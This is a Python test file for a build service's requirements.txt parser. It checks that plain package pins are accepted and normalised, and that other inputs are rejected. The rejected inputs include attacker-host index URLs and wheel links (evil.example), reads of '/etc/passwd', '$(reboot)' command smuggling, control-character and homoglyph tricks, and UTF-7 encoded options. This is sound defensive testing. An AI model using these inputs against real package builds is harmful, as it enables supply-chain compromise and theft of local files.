"""B11: a requirements.txt reaches the index of packages and nothing else."""

from __future__ import annotations

import pytest

from worker.build.plan import BuildRejected
from worker.build.requirements import MAX_BYTES, MAX_LINES, parse_requirements

SHA = "a" * 64


@pytest.mark.parametrize(
    ("given", "accepted"),
    [
        ("numpy", ("numpy",)),
        ("numpy==2.2.6\n", ("numpy==2.2.6",)),
        ("  numpy == 2.2.6  # why not\n\n# a comment\n", ("numpy==2.2.6",)),
        ("numpy>=1,<3 , !=2.0", ("numpy>=1,<3,!=2.0",)),
        ("numpy (>=1)", ("numpy>=1",)),
        ("requests[socks, use-chardet-on-py3]>=2", ("requests[socks,use-chardet-on-py3]>=2",)),
        ('tomli>=2; python_version < "3.11"', ('tomli>=2 ; python_version < "3.11"',)),
        (
            "uvloop; sys_platform != 'win32' and (extra == 'x')",
            ("uvloop ; sys_platform != 'win32' and (extra == 'x')",),
        ),
        ("zope.interface===5.0\r\nruamel.yaml.clib~=0.2", ("zope.interface===5.0", "ruamel.yaml.clib~=0.2")),
        ("torch==2.1.0+cpu", ("torch==2.1.0+cpu",)),
        ("a==1.*\nb==1!2.0", ("a==1.*", "b==1!2.0")),
        (f"a==1 --hash=sha256:{SHA} --hash=sha256:{SHA}", (f"a==1 --hash=sha256:{SHA} --hash=sha256:{SHA}",)),
        (
            f"a==1 \\\n    --hash=sha256:{SHA} \\\n    --hash=sha256:{SHA}\nb",
            (f"a==1 --hash=sha256:{SHA} --hash=sha256:{SHA}", "b"),
        ),
        ("--require-hashes\n--prefer-binary\n--pre", ("--require-hashes", "--prefer-binary", "--pre")),
        ("--only-binary :all:\n--no-binary=a,b", ("--only-binary=:all:", "--no-binary=a,b")),
        ("\ufeffnumpy", ("numpy",)),
        ("", ()),
    ],
)
def test_b11_packages_of_the_index_are_accepted_in_normal_form(given: str, accepted: tuple[str, ...]) -> None:
    assert parse_requirements(given.encode()).lines == accepted


def test_b11_options_alone_ask_for_nothing() -> None:
    assert not parse_requirements(b"--pre\n# nothing\n")
    assert parse_requirements(b"a")


@pytest.mark.parametrize(
    "line",
    [
        "--index-url",
        "--index-url http://evil.example/simple",
        "--index-url https://user:word@evil.example/simple",
        "--index-url https://evil.example/simple?a=b",
        "--index-url file:///etc",
        "--index-url ${INDEX}",
        "--index-url 'https://evil.example/simple",
        "--no-index",
        "--find-links /etc",
        "-f /etc",
        "--trusted-host evil.example",
        "--use-feature x",
        "--config-settings x=y",
        "--global-option x",
        "-r /etc/passwd",
        "-r other.txt",
        "-rother.txt",
        "--requirement other.txt",
        "-c constraints.txt",
        "--constraint=constraints.txt",
        "-e .",
        "--editable .",
        "-e git+https://evil.example/x",
        "--require-hashes -r /etc/passwd",
        "--PRE",
        "--ind https://evil.example",
        "git+https://evil.example/x.git",
        "git+ssh://git@evil.example/x.git",
        "https://evil.example/x.whl",
        "http://127.0.0.1/x.whl",
        "file:///etc/passwd",
        "file:x",
        "x @ https://evil.example/x.whl",
        "x@https://evil.example/x.whl",
        "x @ file:///x",
        "x[a] @ git+https://evil.example/x",
        ".",
        "./x",
        "../x",
        "/x",
        "~/x",
        "x/y",
        "x\\y",
        "C:\\x",
        "x.whl",
        "x-1.0-py3-none-any.whl",
        "x.tar.gz",
        "X.ZIP",
        "x.tar.gz[extra]",
        "x==${TOKEN}",
        "${TOKEN}",
        "x==$TOKEN",
        "x --index-url https://evil.example",
        "x==1 --global-option=--evil",
        "x==1 --config-settings=a=b",
        f"x==1 --hash=md5:{SHA}",
        f"x==1 --hash=sha256:{SHA} --index-url=https://evil.example",
        f"--hash=sha256:{SHA}",
        "x==1; python_version < '3' @ https://evil.example",
        "x; $(reboot)",
        "x; `reboot`",
        "x y",
        "x,y",
        "x==1,",
        "x[",
        "x[]]",
        "x\x00",
        "x\x0b--index-url https://evil.example",
        "x\x0c--index-url https://evil.example",
        "x\r--index-url https://evil.example",
        "x\u2028--index-url https://evil.example",
        "x\x85--index-url https://evil.example",
        "\u2010-index-url https://evil.example",
        "ｘ",
        "numрy",  # a Cyrillic letter
        "x" * 200_000 + "!",
    ],
)
def test_b11_anything_else_is_refused_with_its_line(line: str) -> None:
    with pytest.raises(BuildRejected) as caught:
        parse_requirements(f"numpy\n{line}\n".encode())
    assert caught.value.reason == "build_failed"
    assert caught.value.message.startswith("requirements.txt:2: ")
    assert caught.value.message.isprintable()
    assert len(caught.value.message) < 500


@pytest.mark.parametrize(
    "content",
    [
        b"-\\\nr /etc/passwd",
        b"x \\\n--index-url https://evil.example",
        b"x \\\n\\\n@ https://evil.example",
        b"# fine \\\n--find-links https://evil.example",
        b"--find\\\n-links https://evil.example",
        b"x==1 \\\n# a comment ends the continuation\n--find-links https://evil.example",
    ],
)
def test_b11_a_continued_line_is_judged_as_a_whole(content: bytes) -> None:
    with pytest.raises(BuildRejected):
        parse_requirements(content)


def test_b11_a_continuation_may_lead_nowhere() -> None:
    assert parse_requirements(b"x\\").lines == ("x",)


@pytest.mark.parametrize(
    "content",
    [
        b"# -*- coding: utf-7 -*-\n+AC0-index-url https://evil.example",
        "--find-links x".encode("utf-16"),
        b"\xff\xfen",
        b"numpy\n\xe9",
        b"x\n" * (MAX_LINES + 1),
        b"#" * (MAX_BYTES + 1),
    ],
)
def test_b11_encodings_and_sizes_are_bounded(content: bytes) -> None:
    with pytest.raises(BuildRejected):
        parse_requirements(content)


def test_b11_what_is_accepted_is_accepted_again_unchanged() -> None:
    once = parse_requirements(b"A [x] >= 1 , < 2 ; python_version>'3'\n--no-binary :all:\n")
    assert parse_requirements(once.files["requirements.txt"].encode()) == once


@pytest.mark.parametrize(
    "option",
    ["--index-url {}", "--index-url={}", "-i {}", "-i{}", "-i={}", "--pypi-url {}", "--extra-index-url {}",
     "--extra-index-url={}", '-i "{}"', "--pre -i {}", "-i {} --extra-index-url {}", "--ind\\\nex-url {}"],
)  # fmt: skip
def test_an_index_is_left_to_the_install_script_that_knows_the_one_in_use(option: str) -> None:
    """It reaches pip by no way: see the test of that script."""
    address = "https://index.example/simple/"
    found = parse_requirements(f"# first\na\n{option.replace('{}', address)}\n".encode())
    assert found.indexes == (f"requirements.txt:3 {address}",)
    assert found.files["indexes.txt"] == f"requirements.txt:3 {address}\n"
    assert set(found.lines) <= {"a", "--pre"}
    assert "example" not in found.files["requirements.txt"]


def test_files_of_the_project_are_followed_with_their_constraints() -> None:
    files = {
        "requirements/prod.txt": b"-r base.txt\n--constraint ../constraints.txt\nb>1\n",
        "requirements/base.txt": "\ufeffa\n-rprod.txt  # in a circle\n".encode(),
        "constraints.txt": b"a<3\n-r more/strict.txt\n",
        "more/strict.txt": b"c==1\n",
        "windows.txt": b"d\r\n",
    }
    given = (
        b"-r requirements/prod.txt\n--requirement=./requirements/base.txt\n-c constraints.txt\n-r .\\windows.txt\nb>1\n"
    )
    found = parse_requirements(given, files=files)
    assert found.lines == ("a", "b>1", "d")
    assert found.constraints == ("a<3", "c==1")
    assert found.files["requirements.txt"] == "-c constraints.txt\na\nb>1\nd\n"
    assert found.files["constraints.txt"] == "a<3\nc==1\n"


@pytest.mark.parametrize(
    ("line", "says"),
    [
        ("-r absent.txt", "there is no file 'absent.txt' in the project"),
        ("-r ../base.txt", "'../base.txt' is no file of the project"),
        ("-r a/../../base.txt", "is no file of the project"),
        ("-r /etc/passwd", "'/etc/passwd' is no file of the project"),
        ("-r ~/base.txt", "is no file of the project"),
        ("-r https://evil.example/base.txt", "is no file of the project"),
        ("-r bad.txt", "bad.txt:2: the option '-f /etc' is not allowed"),
        ("-c extras.txt", "extras.txt:1: 'a[b]<2' has extras"),
    ],
)
def test_what_is_no_file_of_the_project_is_not_followed(line: str, says: str) -> None:
    files = {"bad.txt": b"a\n-f /etc\n", "extras.txt": b"a[b]<2\n"}
    with pytest.raises(BuildRejected) as caught:
        parse_requirements(line.encode(), files=files)
    assert caught.value.reason == "build_failed"
    assert says in caught.value.message


def test_files_that_name_each_other_are_bounded() -> None:
    files = {f"{number}.txt": f"-r {number + 1}.txt\n".encode() for number in range(200)} | {"200.txt": b""}
    with pytest.raises(BuildRejected, match="more than 50 files"):
        parse_requirements(b"-r 0.txt\n", files=files)


@pytest.mark.parametrize(
    "content",
    ["# ü\nnumpy\n".encode("latin-1"), "numpy  # ü".encode("cp1252"), "numpy".encode("utf-16"),
     "numpy".encode("utf-16-le"), "numpy".encode("utf-16-be"), "numpy".encode("utf-32"), b"\xef\xbb\xbfnumpy\r\n"],
)  # fmt: skip
def test_what_editors_elsewhere_write_is_read(content: bytes) -> None:
    assert parse_requirements(content).lines == ("numpy",)


def test_bytes_of_another_encoding_are_named_with_their_line_and_what_to_do() -> None:
    with pytest.raises(
        BuildRejected, match=r"requirements\.txt:2 is not UTF-8 text \(it has the byte 0xE9\): save it as"
    ):
        parse_requirements("# é\nnumpé\n".encode("latin-1").replace(b"# \xe9", b"# e"))
